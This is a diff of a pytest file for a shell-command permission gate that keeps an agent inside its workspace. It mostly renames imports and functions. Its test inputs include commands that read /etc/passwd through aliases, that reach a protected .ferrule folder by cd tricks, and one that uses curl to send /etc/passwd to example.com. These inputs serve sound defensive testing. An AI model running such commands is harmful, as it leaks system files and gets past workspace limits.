@@ -15,8 +15,8 @@ sys.path.insert(0, str(Path(__file__).parent))
 
 from ordinary_commands import DENIED, ORDINARY, RULES, Ordinary
 
-from ferrule.permissions.commands.analysis import analyse
-from ferrule.permissions.gate import Decision, Gate
+from ferrule.permissions.command_analysis.analysis import analyse_command
+from ferrule.permissions.rule_evaluation import Decision, PermissionGate
 
 
 def expected(row: Ordinary, decision: Decision) -> bool:
@@ -26,7 +26,7 @@ def expected(row: Ordinary, decision: Decision) -> bool:
 
 @pytest.mark.proves("command.ordinary")
 def test_each_is_decided_as_a_person_expects(
-    gate: Callable[..., Gate], tools: SimpleNamespace, capsys: pytest.CaptureFixture[str]
+    gate: Callable[..., PermissionGate], tools: SimpleNamespace, capsys: pytest.CaptureFixture[str]
 ) -> None:
     gates = {
         mode: gate(allow=RULES, deny=DENIED, mode=mode) for mode in {row.mode for row in ORDINARY}
@@ -65,7 +65,7 @@ def test_the_table_is_large_and_each_row_is_there_once() -> None:
     ],
 )
 def test_a_cd_that_surely_worked_is_followed(command: str) -> None:
-    assert not analyse(command, root="/work/project", home="/home/person").findings
+    assert not analyse_command(command, root="/work/project", home="/home/person").findings
 
 
 @pytest.mark.proves("command.folders")
@@ -98,7 +98,7 @@ def test_a_cd_that_surely_worked_is_followed(command: str) -> None:
     ],
 )
 def test_where_a_cd_may_have_failed_what_lies_outside_is_never_allowed(
-    command: str, gate: Callable[..., Gate], tools: SimpleNamespace
+    command: str, gate: Callable[..., PermissionGate], tools: SimpleNamespace
 ) -> None:
     decision = gate(allow=["Bash"]).decide(tools.run, {"command": command})
     assert decision.verdict != "allow", command
@@ -114,12 +114,12 @@ def test_a_protected_name_is_seen_from_every_folder_it_could_be_named_in() -> No
         "cd a; cd ../.ferrule; cat x",
         "cd .ferrule <<E && cat x\nE",
     ):
-        assert analyse(command, root="/work/project", home="/home/person").findings, command
+        assert analyse_command(command, root="/work/project", home="/home/person").findings, command
 
 
 def test_the_name_that_leaves_the_workspace_is_the_one_that_is_told() -> None:
     for command in ("cd docs && cd ../..", "cd docs; cd ../..; ls"):
-        findings = analyse(command, root="/work/project", home="/home/person").findings
+        findings = analyse_command(command, root="/work/project", home="/home/person").findings
         assert all("`../..`" in finding.why for finding in findings) and findings
 
 
@@ -129,7 +129,7 @@ def test_text_of_a_program_that_may_be_another_is_a_path_all_the_same() -> None:
         "alias tr=cat; tr /etc/passwd",
         "./tr /etc/passwd x",
     ):
-        assert analyse(command, root="/work/project", home="/home/person").findings, command
+        assert analyse_command(command, root="/work/project", home="/home/person").findings, command
 
 
 def test_what_an_option_or_an_expansion_leaves_open_may_be_a_path() -> None:
@@ -153,4 +153,4 @@ def test_what_an_option_or_an_expansion_leaves_open_may_be_a_path() -> None:
         "docker compose -f /etc/passwd ps",
         "curl -s -H @/etc/passwd https://example.com",
     ):
-        assert analyse(command, root="/work/project", home="/home/person").findings, command
+        assert analyse_command(command, root="/work/project", home="/home/person").findings, command
